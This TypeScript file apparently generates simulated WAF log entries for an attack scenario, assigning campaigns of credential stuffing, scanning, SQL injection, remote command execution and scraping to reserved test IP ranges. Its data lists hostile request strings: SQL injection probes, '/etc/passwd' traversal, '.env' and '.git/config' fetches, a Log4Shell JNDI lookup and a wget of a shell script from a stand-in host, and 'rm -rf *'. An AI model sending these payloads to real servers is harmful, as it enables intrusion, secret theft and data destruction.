// The attackers of the scenario `Attack`. Each campaign comes from one network, lasts a few days, and uses one method.
import { hashNumbers } from "./seeded-hash.ts";

/** One method of attack, as the WAF logs it. The values of each list are equally likely. */
interface Method {
  readonly reasons: readonly string[];
  readonly paths: readonly string[];
  readonly httpMethods: readonly string[];
  readonly userAgents: readonly string[];
  /** How many addresses of the network take part. */
  readonly hosts: number;
  readonly network: "IPv4" | "IPv6";
}

export interface Campaign extends Method {
  readonly country: string;
  /** The address of a host from 0 to `hosts - 1`. */
  addressOf(host: number): string;
}

/** After this many days, another campaign replaces it. */
const campaignDays = 5;

const browser =
  "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0 Safari/537.36";

const methods: readonly Method[] = [
  {
    reasons: ["Rate Limit 1015", "Rate Limit 1015", "Bad Bot 1002"],
    paths: ["/login", "/login", "/api/v1/session", "/account/login", "/wp-login.php"],
    httpMethods: ["POST"],
    userAgents: [browser, browser, "okhttp/4.12.0"],
    hosts: 30,
    network: "IPv4",
  },
  {
    reasons: ["SQL Injection 942100", "SQL Injection 942190", "SQL Injection 942360"],
    paths: [
      "/search?q=%27%20OR%201%3D1--",
      "/products?id=1%20UNION%20SELECT%20NULL%2CNULL",
      "/products?id=1%20AND%20SLEEP(5)",
      "/api/v1/orders?sort=(SELECT%201)",
    ],
    httpMethods: ["GET", "GET", "POST"],
    userAgents: ["sqlmap/1.8#stable (https://sqlmap.org)"],
    hosts: 2,
    network: "IPv4",
  },
  {
    reasons: ["Scanner Detected 913100", "Path Traversal 930110", "PHP Injection 933150"],
    paths: [
      "/.env",
      "/.git/config",
      "/actuator/env",
      "/backup.zip",
      "/phpinfo.php",
      "/server-status",
      "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php",
      "/../../etc/passwd",
    ],
    httpMethods: ["GET", "GET", "HEAD"],
    userAgents: ["Mozilla/5.0 zgrab/0.x", "Go-http-client/1.1"],
    hosts: 8,
    network: "IPv4",
  },
  {
    reasons: ["Remote Command Execution 932160", "Remote Command Execution 932150"],
    paths: [
      "/cgi-bin/;wget%20http://198.51.100.7/x.sh",
      "/?x=${jndi:ldap://198.51.100.7/a}",
      "/boaform/admin/formPing",
      "/shell?cd+/tmp;rm+-rf+*",
    ],
    httpMethods: ["GET", "POST"],
    userAgents: ["Hello, World", "${jndi:ldap://198.51.100.7/a}", "curl/8.5.0"],
    hosts: 12,
    network: "IPv4",
  },
  {
    reasons: ["Bad Bot 1002"],
    paths: ["/products?page=1", "/products?page=2", "/products?page=3", "/sitemap.xml", "/api/v1/prices"],
    httpMethods: ["GET"],
    userAgents: ["python-requests/2.32.3", "Scrapy/2.11 (+https://scrapy.org)"],
    hosts: 200,
    network: "IPv6",
  },
];

const countries = ["RU", "CN", "NL", "US", "BR", "VN", "UA", "IR", "SG", "DE"];
const networks = ["192.0.2", "198.51.100", "203.0.113"];
const addressesPerNetwork = 32;

/** The campaign of a slot on a day. Campaigns of different slots do not all change on the same day. */
export function campaignOf(seed: number, day: number, slot: number): Campaign {
  const turn = Math.floor((day + 2 * slot) / campaignDays);
  const draw = (salt: number): number => hashNumbers(seed, turn, slot, salt);
  const method = choose(methods, turn + slot);
  const prefix = choose(networks, draw(41));
  const first = (draw(42) % 8) * addressesPerNetwork + 1;
  const wide = `2001:db8:${(draw(43) % 0xffff).toString(16)}:${(draw(44) % 0xffff).toString(16)}`;
  const addressOf = (host: number): string =>
    method.network === "IPv4" ? `${prefix}.${first + host}` : `${wide}::${(host + 1).toString(16)}`;
  return { ...method, country: choose(countries, draw(45)), addressOf };
}

export function choose<T>(choices: readonly T[], drawn: number): T {
  const choice = choices[drawn % choices.length];
  if (choice === undefined) throw new TypeError("an empty list of choices");
  return choice;
}
